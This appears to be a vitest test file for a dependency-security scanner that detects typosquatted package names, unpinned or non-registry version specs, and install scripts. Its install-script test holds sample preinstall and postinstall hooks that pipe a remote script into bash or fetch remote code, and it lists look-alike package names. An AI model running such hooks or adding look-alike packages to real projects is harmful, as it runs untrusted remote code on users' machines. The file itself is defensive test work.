// Checks 3 (typosquat), 5 (specs) and 6 (install scripts): no network involved.
import { describe, expect, it } from "vitest";
import { analyzeDependencies } from "../../src/deps/index.js";
import { findTyposquat, oneEdit } from "../../src/deps/typosquat.js";
import { classifyNpmSpec, classifyPep440, classifyPoetry } from "../../src/deps/specs.js";
import { added, depsConfig, json } from "./helpers.js";

const rules = (r: { findings: Array<{ ruleId: string }> }) => r.findings.map((f) => f.ruleId).sort();

describe("check 3: typosquats", () => {
  it("finds swapped, doubled, missing, changed, separator and scope-dropped look-alikes", () => {
    expect(oneEdit("lodahs", "lodash")).toBe("swapped");
    expect(findTyposquat("npm", "expresss")).toEqual({ target: "express", kind: "doubled" });
    expect(findTyposquat("npm", "axois")).toEqual({ target: "axios", kind: "swapped" });
    expect(findTyposquat("npm", "lodash-merge")).toEqual({ target: "lodash.merge", kind: "separator" });
    expect(findTyposquat("npm", "tanstack-react-query")).toEqual({ target: "@tanstack/react-query", kind: "scope-dropped" });
    // An old unscoped name that is itself established is no squat.
    expect(findTyposquat("npm", "typescript-eslint-parser")).toBeUndefined();
    expect(findTyposquat("npm", "@tpyes/node")?.target).toBe("@types/node");
    expect(findTyposquat("PyPI", "reqeusts")).toEqual({ target: "requests", kind: "swapped" });
    expect(findTyposquat("PyPI", "djang")).toEqual({ target: "django", kind: "missing" });
  });

  it("leaves popular names, their PyPI spellings, short names and numbered siblings alone", () => {
    for (const name of ["react", "react-dom", "lodash", "chalk", "my-internal-thing"]) expect(findTyposquat("npm", name), name).toBeUndefined();
    for (const name of ["requests", "Django", "python_dateutil", "PyYAML"]) expect(findTyposquat("PyPI", name), name).toBeUndefined();
    expect(findTyposquat("npm", "cli-table4")).toBeUndefined();
  });

  it("reports a look-alike in package.json and requirements.txt as high, not a clean manifest", async () => {
    const npm = await analyzeDependencies([added("package.json", json({ dependencies: { expresss: "^4.0.0", react: "^18.0.0" } }))], { config: depsConfig() });
    expect(npm.findings.map((f) => [f.ruleId, f.severity, f.line])).toEqual([["dependencies/typosquat", "high", 3]]);
    expect(npm.findings[0]!.message).toContain("`express`");
    const py = await analyzeDependencies([added("requirements.txt", "reqeusts==2.31.0\nflask==3.0.0\n")], { config: depsConfig() });
    expect(rules(py)).toEqual(["dependencies/typosquat"]);
    const clean = await analyzeDependencies([added("requirements.txt", "requests==2.31.0\nflask==3.0.0\n")], { config: depsConfig() });
    expect(clean.findings).toEqual([]);
    expect(clean.checked).toBe(true);
  });

  it("never calls a private scope or prefix a typosquat", async () => {
    const files = [added("package.json", json({ dependencies: { "@acme/lodahs": "1.0.0", "acme-expresss": "1.0.0" } })), added("requirements.txt", "acme-reqeusts==1.0\n")];
    const flagged = await analyzeDependencies([added("package.json", json({ dependencies: { expresss: "1.0.0" } }))], { config: depsConfig({ skip_scopes: ["@acme"] }) });
    expect(rules(flagged)).toEqual(["dependencies/typosquat"]);
    const skipped = await analyzeDependencies(files, { config: depsConfig({ skip_scopes: ["@acme", "acme-"] }) });
    expect(skipped.findings).toEqual([]);
  });
});

describe("check 5: unpinned and non-registry specs", () => {
  it("classifies npm and PEP 440 / Poetry specs", () => {
    expect(classifyNpmSpec("*").kind).toBe("any");
    expect(classifyNpmSpec("latest").kind).toBe("tag");
    expect(classifyNpmSpec(">=1.0.0").kind).toBe("unbounded");
    expect(classifyNpmSpec("^1.2.3").kind).toBe("bounded");
    expect(classifyNpmSpec("1.2.3")).toEqual({ kind: "exact", version: "1.2.3" });
    expect(classifyNpmSpec("github:acme/x#main").kind).toBe("git");
    expect(classifyNpmSpec("acme/x").kind).toBe("git");
    expect(classifyNpmSpec("http://example.com/x.tgz")).toEqual({ kind: "url", insecure: true });
    expect(classifyNpmSpec("file:../x").kind).toBe("file");
    expect(classifyNpmSpec("workspace:*").kind).toBe("local");
    expect(classifyPep440(">=2.0").kind).toBe("unbounded");
    expect(classifyPep440(">=2.0,<3").kind).toBe("bounded");
    expect(classifyPep440("~=2.0").kind).toBe("bounded");
    expect(classifyPep440("").kind).toBe("any");
    expect(classifyPep440("==2.0.1")).toEqual({ kind: "exact", version: "2.0.1" });
    expect(classifyPoetry("^2.0").kind).toBe("bounded");
    expect(classifyPoetry("2.0.1")).toEqual({ kind: "exact", version: "2.0.1" });
    expect(classifyPoetry(">=2").kind).toBe("unbounded");
  });

  it("flags `*`, `latest`, unbounded and git/URL specs in an application's package.json", async () => {
    const pkg = json({
      private: true,
      dependencies: { express: "*", react: "latest", lodash: ">=4.0.0", chalk: "github:chalk/chalk", axios: "http://example.com/axios.tgz", "left-pad": "^1.3.0", ms: "2.1.3" },
    });
    const r = await analyzeDependencies([added("package.json", pkg)], { config: depsConfig() });
    const byName = Object.fromEntries(r.findings.map((f) => [/`([^`]+)`/.exec(f.message)![1], `${f.ruleId}:${f.severity}`]));
    expect(byName).toEqual({
      express: "dependencies/unpinned:medium",
      react: "dependencies/unpinned:medium",
      lodash: "dependencies/unpinned:medium",
      chalk: "dependencies/non-registry-source:medium",
      axios: "dependencies/non-registry-source:high",
    });
  });

  it("lets a library's ranges be: unbounded ranges are not flagged, `*` is low, peers never", async () => {
    const lib = json({ name: "lib", dependencies: { lodash: ">=4.0.0", ms: "*" }, peerDependencies: { react: ">=17" } });
    const r = await analyzeDependencies([added("package.json", lib)], { config: depsConfig() });
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}:${f.line}`)).toEqual(["dependencies/unpinned:low:5"]);
    // The same manifest beside a lockfile is an application.
    const app = await analyzeDependencies([added("package.json", lib)], { config: depsConfig(), changedPaths: ["package.json", "package-lock.json"] });
    expect(app.findings.map((f) => f.severity)).toEqual(["medium", "medium"]);
    // ... and configuration decides over both.
    const forced = await analyzeDependencies([added("package.json", lib)], { config: depsConfig({ project: "library" }), changedPaths: ["package-lock.json"] });
    expect(forced.findings.map((f) => f.severity)).toEqual(["low"]);
  });

  it("flags bare and unbounded requirements in requirements.txt, not pinned or bounded ones", async () => {
    const r = await analyzeDependencies([added("requirements.txt", "flask\nrequests>=2.0\nDjango==4.2.7\nnumpy>=1.26,<2\ngit+http://example.com/x.git#egg=xpkg\n")], { config: depsConfig() });
    expect(r.findings.map((f) => `${f.ruleId}:${f.line}:${f.severity}`)).toEqual([
      "dependencies/unpinned:1:medium",
      "dependencies/unpinned:2:medium",
      "dependencies/non-registry-source:5:high",
    ]);
  });

  it("treats pyproject.toml as a library unless it says otherwise; build requirements are never flagged", async () => {
    const content = '[build-system]\nrequires = ["setuptools>=61"]\n\n[project]\nname = "x"\ndependencies = ["httpx>=0.24"]\n';
    expect((await analyzeDependencies([added("pyproject.toml", content)], { config: depsConfig() })).findings).toEqual([]);
    const app = await analyzeDependencies([added("pyproject.toml", content)], { config: depsConfig(), changedPaths: ["pyproject.toml", "uv.lock"] });
    expect(app.findings.map((f) => f.line)).toEqual([6]);
  });
});

describe("check 6: install scripts", () => {
  it("flags install hooks that download or run remote code, not ordinary ones", async () => {
    const pkg = json({
      scripts: {
        preinstall: "curl -fsSL https://get.example.sh | bash",
        postinstall: "node -e \"require('https').get('https://x.example/p')\"",
        install: "node-gyp rebuild",
        prepare: "husky",
        test: "curl https://example.com",
      },
    });
    const r = await analyzeDependencies([added("package.json", pkg)], { config: depsConfig() });
    expect(r.findings.map((f) => [f.ruleId, f.severity, f.title])).toEqual([
      ["dependencies/install-script", "high", "Install script that fetches or runs remote code (preinstall)"],
      ["dependencies/install-script", "high", "Install script that fetches or runs remote code (postinstall)"],
    ]);
  });
});

describe("offline mode", () => {
  it("says what it did not check, and reports nothing it cannot know", async () => {
    const r = await analyzeDependencies([added("package.json", json({ dependencies: { "surely-not-a-real-pkg-xyz": "1.0.0" } }))], { config: depsConfig() });
    expect(r.findings).toEqual([]);
    expect(r.checked).toBe(true);
    expect(r.notes).toEqual(["not checked (offline): package existence, age and known vulnerabilities"]);
  });
});
